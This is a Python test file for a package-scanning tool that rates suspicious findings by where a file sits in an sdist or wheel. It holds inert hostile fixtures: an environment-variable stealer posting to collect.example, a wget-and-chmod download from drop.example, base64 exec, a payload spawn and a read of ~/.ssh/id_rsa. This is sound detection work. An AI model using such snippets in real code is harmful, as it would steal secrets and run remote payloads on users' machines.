"""How the behaviour diff rates a finding by what the file is: run at install time, installed,
or shipped but never run (an sdist's tests and docs)."""

from __future__ import annotations

from pathlib import Path

from tests.helpers.dists import DistSpec, build_sdist, build_wheel
from verify._behaviour.diff import DistFile, diff_distributions
from verify._rules.severity import severity_at_least
from verify.models import Finding, Severity

_SETUP = (
    "from setuptools import setup, find_packages\n"
    "setup(packages=find_packages(exclude=['tests*']))\n"
)
_SPAWN = "import subprocess\nsubprocess.Popen('payload.exe', shell=True)\n"
_RAW_IP = "SERVER = 'http://203.0.113.9:8080/'\n"


def _first_upload(tmp_path: Path, files: dict[str, str]) -> list[Finding]:
    built = build_sdist(DistSpec("demo", "1.0", files=files), tmp_path)
    return list(diff_distributions(DistFile(built, built.name), None).findings)


def _at(findings: list[Finding], path: str, rule: str) -> Severity:
    [severity] = {f.severity for f in findings if f.path == path and f.rule == rule}
    return severity


def test_tests_and_docs_an_sdist_does_not_install_are_rated_lower(tmp_path: Path) -> None:
    findings = _first_upload(
        tmp_path,
        {
            "setup.py": _SETUP,
            "demo/__init__.py": _SPAWN + _RAW_IP,
            "tests/test_demo.py": _SPAWN + _RAW_IP,
            "docs/conf.py": _SPAWN,
        },
    )
    # Installed and run at import: high, and the raw address critical.
    assert _at(findings, "demo/__init__.py", "process-spawn") is Severity.HIGH
    assert _at(findings, "demo/__init__.py", "suspicious-endpoint") is Severity.CRITICAL
    # Never installed, never run by installing: worth a look, not a verdict.
    assert _at(findings, "tests/test_demo.py", "process-spawn") is Severity.LOW
    assert _at(findings, "tests/test_demo.py", "suspicious-endpoint") is Severity.MEDIUM
    assert _at(findings, "docs/conf.py", "process-spawn") is Severity.LOW


def test_a_test_module_setup_py_imports_runs_at_install_time(tmp_path: Path) -> None:
    setup = "import tests.helper\n" + _SETUP
    findings = _first_upload(
        tmp_path,
        {"setup.py": setup, "tests/__init__.py": "", "tests/helper.py": _SPAWN},
    )
    assert _at(findings, "tests/helper.py", "process-spawn") is Severity.HIGH
    [finding] = [f for f in findings if f.path == "tests/helper.py"]
    assert "at install time" in finding.message


def test_obfuscated_code_in_a_file_nothing_runs_is_never_nothing(tmp_path: Path) -> None:
    payload = "import base64\nexec(base64.b64decode(BLOB))\n"
    findings = _first_upload(tmp_path, {"setup.py": _SETUP, "tests/test_x.py": payload})
    assert _at(findings, "tests/test_x.py", "decode-exec") is Severity.HIGH


def test_setup_py_beside_another_backend_is_still_rated_as_install_time_code(
    tmp_path: Path,
) -> None:
    pyproject = (
        "[build-system]\nrequires = ['poetry-core']\n"
        "build-backend = 'poetry.core.masonry.api'\n"
        "[tool.poetry]\nname = 'demo'\nversion = '1.0'\n"
    )
    findings = _first_upload(
        tmp_path,
        {"pyproject.toml": pyproject, "setup.py": _SPAWN, "demo/__init__.py": ""},
    )
    assert _at(findings, "setup.py", "process-spawn") is Severity.HIGH


def test_code_computed_and_executed_while_pip_installs_is_high(tmp_path: Path) -> None:
    setup = _SETUP + "code = ''.join(reversed(PARTS))\nexec(code)\n"
    module = "code = ''.join(reversed(PARTS))\nexec(code)\n"
    findings = _first_upload(tmp_path, {"setup.py": setup, "demo/__init__.py": module})
    assert _at(findings, "setup.py", "dynamic-exec") is Severity.HIGH
    # On import, computed code is how some libraries build classes: worth a look only.
    assert _at(findings, "demo/__init__.py", "dynamic-exec") is Severity.MEDIUM


def test_a_client_created_on_import_is_not_a_download(tmp_path: Path) -> None:
    setup_only = (
        "import socket, requests\n"
        "SESSION = requests.Session()\n"
        "def _has_ipv6():\n"
        "    return socket.socket(socket.AF_INET6)\n"
        "HAS_IPV6 = _has_ipv6()\n"
    )
    fetching = "import requests\nCONFIG = requests.get('https://a.example/config.json')\n"
    findings = _first_upload(
        tmp_path,
        {"setup.py": _SETUP, "demo/__init__.py": setup_only, "demo/config.py": fetching},
    )
    severities = {
        (f.path, f.message.split("(")[1].split(")")[0]): f.severity
        for f in findings
        if f.rule == "network-access"
    }
    assert severities == {
        ("demo/__init__.py", "requests.Session"): Severity.MEDIUM,
        ("demo/__init__.py", "socket.socket"): Severity.MEDIUM,
        ("demo/config.py", "requests.get"): Severity.HIGH,
    }


_STEALER = (
    "import os, requests\n"
    "def report():\n"
    "    requests.post('https://collect.example/t', json=dict(os.environ))\n"
)


def test_a_stealer_shape_in_tests_nothing_installs_is_worth_a_look_not_a_verdict(
    tmp_path: Path,
) -> None:
    # A test suite reads tokens from the environment and talks to servers; nothing installs
    # or runs it. Installed, the same code is a verdict; hidden, it stays one.
    hidden = "import base64\nexec(base64.b64decode(BLOB))\n"
    findings = _first_upload(
        tmp_path,
        {
            "setup.py": _SETUP,
            "demo/__init__.py": "",
            "demo/report.py": _STEALER,
            "tests/test_report.py": _STEALER,
            "tests/test_hidden.py": hidden,
        },
    )
    assert _at(findings, "demo/report.py", "exfiltration") is Severity.CRITICAL
    assert _at(findings, "tests/test_report.py", "exfiltration") is Severity.MEDIUM
    assert _at(findings, "tests/test_hidden.py", "decode-exec") is Severity.HIGH


def test_a_test_binary_an_sdist_does_not_install_is_medium(tmp_path: Path) -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
    built = build_sdist(
        DistSpec(
            "demo",
            "1.0",
            files={
                "setup.py": _SETUP,
                "demo/__init__.py": "",
                "tests/bin/proxy": elf,
                "demo/helper": elf,
            },
        ),
        tmp_path,
    )
    findings = list(diff_distributions(DistFile(built, built.name), None).findings)
    binaries = {f.path: f for f in findings if f.rule == "binary-added"}
    assert binaries["tests/bin/proxy"].severity is Severity.MEDIUM
    assert "neither installed nor run" in binaries["tests/bin/proxy"].message
    assert binaries["demo/helper"].severity is Severity.HIGH
    assert binaries["demo/helper"].message.endswith("(no baseline)")


def test_code_hidden_in_setup_py_is_high_without_a_baseline(tmp_path: Path) -> None:
    blob = "".join(f"{(i * 7919) % 256:02x}" for i in range(400))
    minified = ";".join(f"v{i} = {i}" for i in range(300)) + "\n"
    findings = _first_upload(
        tmp_path,
        {
            "setup.py": _SETUP + f"PAYLOAD = '{blob}'\n" + minified,
            "demo/__init__.py": f"ICON = '{blob}'\n",
        },
    )
    assert _at(findings, "setup.py", "high-entropy-string") is Severity.HIGH
    assert _at(findings, "setup.py", "obfuscation") is Severity.HIGH
    # In an installed module an encoded blob is data (icons, certificates): worth a look.
    assert _at(findings, "demo/__init__.py", "high-entropy-string") is Severity.MEDIUM


def test_a_command_built_by_an_f_string_is_read_whole(tmp_path: Path) -> None:
    module = (
        "import random, subprocess\n"
        "def start():\n"
        "    name = str(random.randint(1, 999999))\n"
        "    subprocess.run(f'wget -qO /tmp/{name} https://drop.example/m && chmod +x /tmp/{name}',"
        " shell=True)\n"
        "    return f'https://{name}.mirror.ru/{name}.tar.gz'\n"
    )
    findings = _first_upload(tmp_path, {"setup.py": _SETUP, "demo/__init__.py": module})
    assert _at(findings, "demo/__init__.py", "download-exec") is Severity.CRITICAL
    # A formatted value never becomes part of a host name.
    assert not [f for f in findings if f.rule == "suspicious-endpoint"]


def test_a_legacy_sdist_name_with_dashes_is_the_metadata_name(tmp_path: Path) -> None:
    built = build_sdist(DistSpec("demo-pkg", "1.0", files={"setup.py": _SETUP}), tmp_path)
    legacy = built.rename(tmp_path / "demo-pkg-1.0.tar.gz")
    findings = diff_distributions(DistFile(legacy, legacy.name), None).findings
    assert not [f for f in findings if f.rule == "metadata-malformed"]
    other = legacy.rename(tmp_path / "demo-1.0.tar.gz")
    findings = diff_distributions(DistFile(other, other.name), None).findings
    assert [f.message for f in findings if f.rule == "metadata-malformed"] == [
        "metadata Name 'demo-pkg' is not the file name's 'demo'"
    ]


def test_data_that_cannot_run_names_things_without_a_verdict(tmp_path: Path) -> None:
    # An API model naming ~/.ssh, a price list naming a host under .xyz: data, not code.
    model = '{"Description": "Copies ~/.ssh/id_rsa to the instance", "url": "https://api.models.xyz/v1"}'
    module = "KEY = '~/.ssh/id_rsa'\n"
    findings = _first_upload(
        tmp_path,
        {"setup.py": _SETUP, "demo/__init__.py": module, "demo/data/model.json": model},
    )
    in_json = [f for f in findings if f.path == "demo/data/model.json"]
    assert {f.rule for f in in_json} >= {"credential-read", "suspicious-endpoint"}
    assert all(not severity_at_least(f.severity, Severity.HIGH) for f in in_json)
    # The same name in code is still a verdict.
    assert severity_at_least(_at(findings, "demo/__init__.py", "credential-read"), Severity.HIGH)


def test_a_versioned_shared_library_is_a_library_not_a_program(tmp_path: Path) -> None:
    # auditwheel vendors libraries as demo.libs/libz-1a2b3c4d.so.1.3 beside the extension.
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
    files: dict[str, str | bytes] = {
        "demo/__init__.py": "",
        "demo/_speedups.cpython-311-x86_64-linux-gnu.so": elf,
        "demo.libs/libz-1a2b3c4d.so.1.3": elf,
        "demo/bin/helper": elf,
    }
    spec = DistSpec("demo", "1.0", files=files, tag="cp311-cp311-manylinux_2_17_x86_64")
    built = build_wheel(spec, tmp_path)
    findings = diff_distributions(DistFile(built, built.name), None).findings
    assert {f.path for f in findings if f.rule == "binary-added"} == {"demo/bin/helper"}
    pure = build_wheel(
        DistSpec("demo", "1.0", files={"demo/__init__.py": "", "demo/libz.so.1.3": elf}),
        tmp_path / "pure",
    )
    findings = diff_distributions(DistFile(pure, pure.name), None).findings
    [native] = [f for f in findings if f.path == "demo/libz.so.1.3"]
    assert (native.rule, native.severity) == ("native-extension-added", Severity.MEDIUM)
